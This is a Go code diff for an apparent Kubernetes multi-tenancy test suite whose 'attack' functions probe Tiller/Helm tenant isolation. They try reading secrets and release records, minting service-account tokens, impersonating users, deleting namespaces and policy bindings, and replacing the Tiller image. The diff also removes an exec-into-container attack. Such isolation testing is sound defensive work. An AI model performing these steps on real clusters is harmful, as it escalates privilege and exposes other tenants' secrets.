@@ -1,19 +1,13 @@
 package attack
 
 import (
-	"bytes"
 	"context"
-	"errors"
 	"fmt"
 	"net/http"
 	"strings"
 
-	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
-	"k8s.io/client-go/kubernetes/scheme"
-	"k8s.io/client-go/tools/remotecommand"
-	"k8s.io/client-go/util/exec"
 )
 
 // homing are attacks that go to the API server directly, at the home namespace
@@ -62,7 +56,7 @@ var homing = []attack{
 }
 
 // kubectlCreate creates an object as the actor, with kubectl if its output shows the result.
-func (s *scene) kubectlCreate(ctx context.Context, manifest string) error {
+func (s *attackRun) kubectlCreate(ctx context.Context, manifest string) error {
 	if s.actor.as != "" {
 		// kubectl asks for something else first, and can't read how that is refused.
 		object, err := parse(s.fill(manifest))
@@ -77,14 +71,14 @@ func (s *scene) kubectlCreate(ctx context.Context, manifest string) error {
 }
 
 // createsInHome is an attack by one object that the actor creates itself.
-func createsInHome(manifest string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func createsInHome(manifest string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		return s.made(ctx, "", manifest, s.kubectlCreate(ctx, manifest))
 	}
 }
 
 // podWithAccount runs a pod as Tiller's account, which tells who it is.
-func podWithAccount(ctx context.Context, s *scene) outcome {
+func podWithAccount(ctx context.Context, s *attackRun) outcome {
 	manifest := podManifest("$HOME", "$ID", "\n  serviceAccountName: $ACCOUNT", kubectlImage, "auth", "whoami", "-o", "jsonpath={.status.userInfo.username}")
 	manifest = strings.Replace(manifest, "automountServiceAccountToken: false", "automountServiceAccountToken: true", 1)
 	if err := s.kubectlCreate(ctx, manifest); err != nil {
@@ -123,32 +117,7 @@ metadata: {name: $ID, namespace: $HOME}
 spec: {podSelector: {}, ingress: [{}]}
 `
 
-// execTiller runs Tiller's own program, the only one in its image, once more.
-func execTiller(ctx context.Context, s *scene) outcome {
-	pod, err := s.pod(ctx, s.victim)
-	if err != nil {
-		return failure("%v", err)
-	}
-	url := s.actor.client.CoreV1().RESTClient().Post().Namespace(s.victim.home).Resource("pods").Name(pod.Name).SubResource("exec").
-		VersionedParams(&corev1.PodExecOptions{Container: "tiller", Command: []string{"/tiller", "--help"}, Stdout: true, Stderr: true}, scheme.ParameterCodec).URL()
-	executor, err := remotecommand.NewSPDYExecutor(s.actor.config, http.MethodPost, url)
-	if err != nil {
-		return failure("%v", err)
-	}
-	ctx, cancel := context.WithTimeout(ctx, commandTime)
-	defer cancel()
-	var out bytes.Buffer
-	answer := executor.StreamWithContext(ctx, remotecommand.StreamOptions{Stdout: &out, Stderr: &out})
-	// The kubelet reports how the program ended; its output may arrive too late.
-	effect := ""
-	var ended exec.CodeExitError
-	if answer == nil || errors.As(answer, &ended) {
-		effect = "a program ran in Tiller's container"
-	}
-	return s.settle(answer, effect, nil)
-}
-
-func ephemeralContainer(ctx context.Context, s *scene) outcome {
+func ephemeralContainer(ctx context.Context, s *attackRun) outcome {
 	pod, err := s.pod(ctx, s.victim)
 	if err != nil {
 		return failure("%v", err)
@@ -158,7 +127,7 @@ func ephemeralContainer(ctx context.Context, s *scene) outcome {
 	return s.seesEphemeral(ctx, pod.Name, answer)
 }
 
-func kubectlDebug(ctx context.Context, s *scene) outcome {
+func kubectlDebug(ctx context.Context, s *attackRun) outcome {
 	pod, err := s.pod(ctx, s.victim)
 	if err != nil {
 		return failure("%v", err)
@@ -167,7 +136,7 @@ func kubectlDebug(ctx context.Context, s *scene) outcome {
 	return s.seesEphemeral(ctx, pod.Name, answer)
 }
 
-func (s *scene) seesEphemeral(ctx context.Context, name string, answer error) outcome {
+func (s *attackRun) seesEphemeral(ctx context.Context, name string, answer error) outcome {
 	pod, err := s.root.client.CoreV1().Pods(s.victim.home).Get(ctx, name, metav1.GetOptions{})
 	effect := ""
 	if err == nil {
@@ -180,7 +149,7 @@ func (s *scene) seesEphemeral(ctx context.Context, name string, answer error) ou
 	return s.settle(answer, effect, err)
 }
 
-func logs(ctx context.Context, s *scene) outcome {
+func logs(ctx context.Context, s *attackRun) outcome {
 	pod, err := s.pod(ctx, s.victim)
 	if err != nil {
 		return failure("%v", err)
@@ -188,7 +157,7 @@ func logs(ctx context.Context, s *scene) outcome {
 	return s.getRaw(ctx, fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/log", s.victim.home, pod.Name), "[main] ", "it told its logs")
 }
 
-func deletePod(ctx context.Context, s *scene) outcome {
+func deletePod(ctx context.Context, s *attackRun) outcome {
 	pod, err := s.pod(ctx, s.victim)
 	if err != nil {
 		return failure("%v", err)
@@ -198,7 +167,7 @@ func deletePod(ctx context.Context, s *scene) outcome {
 	return s.settle(answer, effect, err)
 }
 
-func evictPod(ctx context.Context, s *scene) outcome {
+func evictPod(ctx context.Context, s *attackRun) outcome {
 	pod, err := s.pod(ctx, s.victim)
 	if err != nil {
 		return failure("%v", err)
@@ -210,29 +179,29 @@ func evictPod(ctx context.Context, s *scene) outcome {
 	return s.settle(answer, effect, err)
 }
 
-func readRecords(resource string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func readRecords(resource string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		return s.getRaw(ctx, "/api/v1/namespaces/"+s.victim.home+"/"+resource, `"kind":"`, "it listed them")
 	}
 }
 
 // storage is the resource that holds a world's release records.
-func (s *scene) storage() string {
+func (s *attackRun) storage() string {
 	if s.records == "Secret" && s.victim != s.careful {
 		return "secrets"
 	}
 	return "configmaps"
 }
 
-func readReleaseRecord(ctx context.Context, s *scene) outcome {
+func readReleaseRecord(ctx context.Context, s *attackRun) outcome {
 	return s.getRaw(ctx, "/api/v1/namespaces/"+s.victim.home+"/"+s.storage()+"/"+s.victim.release+".v1", `"release":"`, "it told a release record")
 }
 
-func readAllRecords(ctx context.Context, s *scene) outcome {
+func readAllRecords(ctx context.Context, s *attackRun) outcome {
 	return s.getRaw(ctx, "/api/v1/"+s.storage()+"?labelSelector=OWNER%3DTILLER", `"release":"`, "it told release records")
 }
 
-func createToken(ctx context.Context, s *scene) outcome {
+func createToken(ctx context.Context, s *attackRun) outcome {
 	out, answer := s.runKubectl(ctx, s.actor, "--namespace", s.victim.home, "create", "token", s.account)
 	if answer != nil {
 		return s.settle(answer, "", nil)
@@ -241,12 +210,12 @@ func createToken(ctx context.Context, s *scene) outcome {
 	return s.settle(nil, effect, err)
 }
 
-func createTokenSecret(ctx context.Context, s *scene) outcome {
+func createTokenSecret(ctx context.Context, s *attackRun) outcome {
 	return s.tokenFrom(ctx, s.id, s.kubectlCreate(ctx, tokenSecret))
 }
 
-func impersonate(user, group string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func impersonate(user, group string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		user := s.fill(user)
 		args := []string{"create", "--raw", "/apis/authentication.k8s.io/v1/selfsubjectreviews", "-f", "-", "--as", user}
 		if group != "" {
@@ -264,15 +233,15 @@ func impersonate(user, group string) func(context.Context, *scene) outcome {
 
 // patches is an attack by one patch, which sets the label attack: $ID. It omits the GET that
 // kubectl sends first, so that only the right to patch counts.
-func patches(kind, name, subresource, patch string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func patches(kind, name, subresource, patch string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		answer := s.patch(ctx, kind, s.victim.home, name, patch, subresource)
 		effect, err := s.seesMark(ctx, kind, s.victim.home, name)
 		return s.settle(answer, effect, err)
 	}
 }
 
-func (s *scene) patch(ctx context.Context, kind, namespace, name, patch, subresource string) error {
+func (s *attackRun) patch(ctx context.Context, kind, namespace, name, patch, subresource string) error {
 	var more []string
 	if subresource != "" {
 		more = append(more, subresource)
@@ -291,14 +260,14 @@ func (s *scene) patch(ctx context.Context, kind, namespace, name, patch, subreso
 	return err
 }
 
-func scaleTiller(ctx context.Context, s *scene) outcome {
+func scaleTiller(ctx context.Context, s *attackRun) outcome {
 	answer := s.patch(ctx, "Deployment", s.victim.home, "tiller-deploy", `{"spec":{"replicas":0}}`, "scale")
 	effect, err := s.seesField(ctx, "Deployment", s.victim.home, "tiller-deploy", "0", "spec", "replicas")
 	return s.settle(answer, effect, err)
 }
 
-func deletes(kind, name string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func deletes(kind, name string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		was, err := s.live(ctx, kind, s.victim.home, name)
 		if err != nil || was == nil && !s.bare {
 			return failure("%s %s, which is to be deleted, is not there: %v", kind, name, err)
@@ -312,7 +281,7 @@ func deletes(kind, name string) func(context.Context, *scene) outcome {
 	}
 }
 
-func readRecord(ctx context.Context, s *scene) outcome {
+func readRecord(ctx context.Context, s *attackRun) outcome {
 	return s.getRaw(ctx, "/api/v1/namespaces/"+s.victim.home+"/configmaps/helm-tenant", `"tenant.yaml":"`, "it told the tenant's record")
 }
 
@@ -320,8 +289,8 @@ func readRecord(ctx context.Context, s *scene) outcome {
 func home(t *tenant) string  { return t.home }
 func first(t *tenant) string { return t.namespaces[0] }
 
-func patchNamespace(which func(*tenant) string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func patchNamespace(which func(*tenant) string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		name := which(s.victim)
 		answer := s.patch(ctx, "Namespace", "", name, `{"metadata":{"labels":{"attack":"$ID","helm-tenant/home":null}}}`, "")
 		effect, err := s.seesMark(ctx, "Namespace", "", name)
@@ -329,8 +298,8 @@ func patchNamespace(which func(*tenant) string) func(context.Context, *scene) ou
 	}
 }
 
-func deleteNamespace(which func(*tenant) string) func(context.Context, *scene) outcome {
-	return func(ctx context.Context, s *scene) outcome {
+func deleteNamespace(which func(*tenant) string) func(context.Context, *attackRun) outcome {
+	return func(ctx context.Context, s *attackRun) outcome {
 		name := which(s.victim)
 		_, answer := s.runKubectl(ctx, s.actor, "delete", "--wait=false", "namespace", name)
 		effect, err := s.seesNone(ctx, "Namespace", "", name)
@@ -338,7 +307,7 @@ func deleteNamespace(which func(*tenant) string) func(context.Context, *scene) o
 	}
 }
 
-func patchQuota(ctx context.Context, s *scene) outcome {
+func patchQuota(ctx context.Context, s *attackRun) outcome {
 	namespace := s.victim.namespaces[0]
 	answer := s.patch(ctx, "ResourceQuota", namespace, "by-admin", `{"metadata":{"labels":{"attack":"$ID"}},"spec":{"hard":{"pods":"100000"}}}`, "")
 	effect, err := s.seesMark(ctx, "ResourceQuota", namespace, "by-admin")
@@ -346,7 +315,7 @@ func patchQuota(ctx context.Context, s *scene) outcome {
 }
 
 // deletePolicyBinding would allow charts to write anything into every home.
-func deletePolicyBinding(ctx context.Context, s *scene) outcome {
+func deletePolicyBinding(ctx context.Context, s *attackRun) outcome {
 	name := s.policyBinding
 	if name == "" {
 		name = "helm-tenant-records" // the recipe has none; the right is what counts
@@ -356,16 +325,16 @@ func deletePolicyBinding(ctx context.Context, s *scene) outcome {
 	return s.settle(answer, effect, err)
 }
 
-func readSecretsOfTeam(ctx context.Context, s *scene) outcome {
+func readSecretsOfTeam(ctx context.Context, s *attackRun) outcome {
 	return s.getRaw(ctx, "/api/v1/namespaces/"+s.victim.namespaces[0]+"/secrets/"+s.victim.release, `"password":"`, "it told the release's password")
 }
 
-func bindingInTeam(ctx context.Context, s *scene) outcome {
+func bindingInTeam(ctx context.Context, s *attackRun) outcome {
 	manifest := strings.Replace(bindingInHome, "namespace: $HOME", "namespace: $NS", 1)
 	return s.made(ctx, "", manifest, s.kubectlCreate(ctx, manifest))
 }
 
-func helmInitUpgrade(ctx context.Context, s *scene) outcome {
+func helmInitUpgrade(ctx context.Context, s *attackRun) outcome {
 	image := "attack.example/" + s.id + ":v1"
 	_, answer := s.runHelm(ctx, s.actor, "init", "--skip-refresh", "--upgrade", "--force-upgrade", "--tiller-image="+image, "--service-account=tiller", "--tiller-namespace="+s.victim.home)
 	d, err := s.root.client.AppsV1().Deployments(s.victim.home).Get(ctx, "tiller-deploy", metav1.GetOptions{})
@@ -376,7 +345,7 @@ func helmInitUpgrade(ctx context.Context, s *scene) outcome {
 	return s.settle(answer, effect, err)
 }
 
-func helmReset(ctx context.Context, s *scene) outcome {
+func helmReset(ctx context.Context, s *attackRun) outcome {
 	// It wants to see a Tiller pod, even with --force.
 	if _, err := s.pod(ctx, s.victim); err != nil {
 		return failure("%v", err)
